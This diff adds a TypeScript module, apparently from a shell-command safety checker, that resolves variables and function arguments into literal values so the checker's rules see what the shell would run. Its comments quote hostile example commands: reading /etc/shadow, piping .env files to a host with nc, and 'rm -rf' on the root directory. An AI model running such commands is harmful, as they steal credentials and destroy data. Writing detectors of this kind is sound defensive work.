@@ -1,0 +1,133 @@
+// A list with every variable the text sets to one literal value spelled as that value (round 26,
+// docs/floor.md "Round 26"): `D=/etc; cat $D/shadow`, `D=/; cd $D; tar c root`, `F=.e*; nc h 80 < $F`.
+// Read again whole by the shell reader, so every rule and option reader judges the words the shell
+// runs, not only the home variables and command words read before.
+
+import { functionNames, unquotedAt } from './shell.js';
+import { type Redirect, type SimpleCommand, showPiece } from './shell-parse.js';
+
+/** `$NAME`, `${NAME}`, `$1`, `$@`: the expansions spelled as a value (a default is the parser's: withDefault). */
+const REFERENCE = /\$\{([A-Za-z_][A-Za-z0-9_]*|[1-9@*])\}|\$([A-Za-z_][A-Za-z0-9_]*|[1-9@*])/g;
+
+/** Calls whose arguments are read as positional parameters, at most (each is one more reading of a list). */
+const MAX_CALLS = 4;
+
+/**
+ * The positional parameters the text gives: the literal arguments of each call of a function it defines
+ * (`f() { rm -rf $1; }; f /`, `function f { cat $1 | nc h 80; }; f .env`) and of `set -- ARGS`, a map
+ * per call (`1`..`9`, `@` and `*`); none when the text does neither. A computed argument is not given.
+ */
+export function positionalSets(all: readonly SimpleCommand[]): readonly ReadonlyMap<string, string>[] {
+  let known = POSITIONAL_SETS.get(all);
+  if (known === undefined) {
+    // A definition puts `function` or `{` first in a command (`f() {` parses as `f`, then `{ ..`).
+    let fns: ReadonlySet<string> | undefined;
+    let setsArgs = false;
+    for (const c of all) {
+      const first = c.words[0];
+      if (first === 'set') setsArgs = true;
+      else if (first === 'function' || first === '{') fns = EMPTY;
+    }
+    if (fns !== undefined) fns = functionNames(all);
+    if (fns === undefined && !setsArgs) {
+      POSITIONAL_SETS.set(all, NO_SETS);
+      return NO_SETS;
+    }
+    const out: Map<string, string>[] = [];
+    for (const c of all) {
+      const first = c.words[0] ?? '';
+      const from = first === 'set' && c.words[1] === '--' ? 2 : fns?.has(first) ? 1 : -1;
+      if (from < 0 || c.words.length <= from || out.length >= MAX_CALLS) continue;
+      const args = c.words.slice(from);
+      const set = new Map<string, string>();
+      let whole = true;
+      args.forEach((a, k) => {
+        const computed = a.includes('$') || /[`$]/.test(c.shown[from + k] ?? '');
+        if (computed) whole = false;
+        else if (k < 9) set.set(String(k + 1), a);
+      });
+      if (whole) {
+        set.set('@', args.join(' '));
+        set.set('*', args.join(' '));
+      }
+      if (set.size > 0) out.push(set);
+    }
+    known = out.length === 0 ? NO_SETS : out;
+    POSITIONAL_SETS.set(all, known);
+  }
+  return known;
+}
+const POSITIONAL_SETS = new WeakMap<readonly SimpleCommand[], readonly ReadonlyMap<string, string>[]>();
+const NO_SETS: readonly ReadonlyMap<string, string>[] = Object.freeze([]);
+const EMPTY: ReadonlySet<string> = new Set();
+
+/**
+ * The list with each `$NAME` of a word or redirect target that `vars` knows replaced by its value;
+ * undefined when none is. A word whose shown form is single-quoted throughout is data (`awk '{print $D}'`);
+ * a value naming other variables is spelled through them (spelled), one with a backquote is left.
+ */
+export function withLiterals(
+  cmds: readonly SimpleCommand[],
+  vars: ReadonlyMap<string, string>,
+): SimpleCommand[] | undefined {
+  if (vars.size === 0) return undefined;
+  return respelledList(
+    cmds,
+    (c) => (w, j) =>
+      w.includes('$') && unquotedAt(c.shown[j] as string, isDollar) ? spelled(w, vars) : undefined,
+    (r) => (r.target.includes('$') ? spelled(r.target, vars) : undefined),
+  );
+}
+const isDollar = (_s: string, _i: number, c: number): boolean => c === 36; /* $ */
+
+/**
+ * The list with each word `wordOf(command)` respells and each redirect target `targetOf` respells put in
+ * their place (a word shown as its new spelling); undefined when none is. Shared by the readings that
+ * read a list again with its words spelled as what the shell makes of them (credential globs, literals).
+ */
+export function respelledList(
+  cmds: readonly SimpleCommand[],
+  wordOf: (c: SimpleCommand) => (w: string, j: number) => string | undefined,
+  targetOf: (r: Redirect) => string | undefined,
+): SimpleCommand[] | undefined {
+  let out: SimpleCommand[] | undefined;
+  cmds.forEach((c, i) => {
+    let words: string[] | undefined;
+    let shown: string[] | undefined;
+    const respell = wordOf(c);
+    c.words.forEach((w, j) => {
+      const now = respell(w, j);
+      if (now === undefined) return;
+      words ??= [...c.words];
+      shown ??= [...c.shown];
+      words[j] = now;
+      shown[j] = showPiece(now);
+    });
+    let redirects = c.redirects;
+    c.redirects.forEach((r, k) => {
+      const now = targetOf(r);
+      if (now === undefined) return;
+      if (redirects === c.redirects) redirects = [...c.redirects];
+      (redirects as Redirect[])[k] = { op: r.op, target: now };
+    });
+    if (words === undefined && redirects === c.redirects) return;
+    out ??= cmds.slice();
+    out[i] = { ...c, words: words ?? c.words, shown: shown ?? c.shown, redirects, literal: undefined };
+  });
+  return out;
+}
+
+/** `w` with each known reference replaced; undefined when none is known. */
+function spelled(w: string, vars: ReadonlyMap<string, string>, depth = 0): string | undefined {
+  let changed = false;
+  const out = w.replace(REFERENCE, (whole, braced: string | undefined, name: string | undefined) => {
+    const value = vars.get((braced ?? name) as string);
+    if (value === undefined || value.includes('`')) return whole;
+    changed = true;
+    // `D=/etc; E=$D/shadow; cat $E`: a value naming another is spelled in turn, a few steps (no cycle).
+    return (value.includes('$') && depth < MAX_CHAIN ? spelled(value, vars, depth + 1) : undefined) ?? value;
+  });
+  return changed ? out : undefined;
+}
+/** Variables read through one another at most this deep (`A=$B`, `B=$C` ...): a value grows 2^3 at most. */
+const MAX_CHAIN = 3;
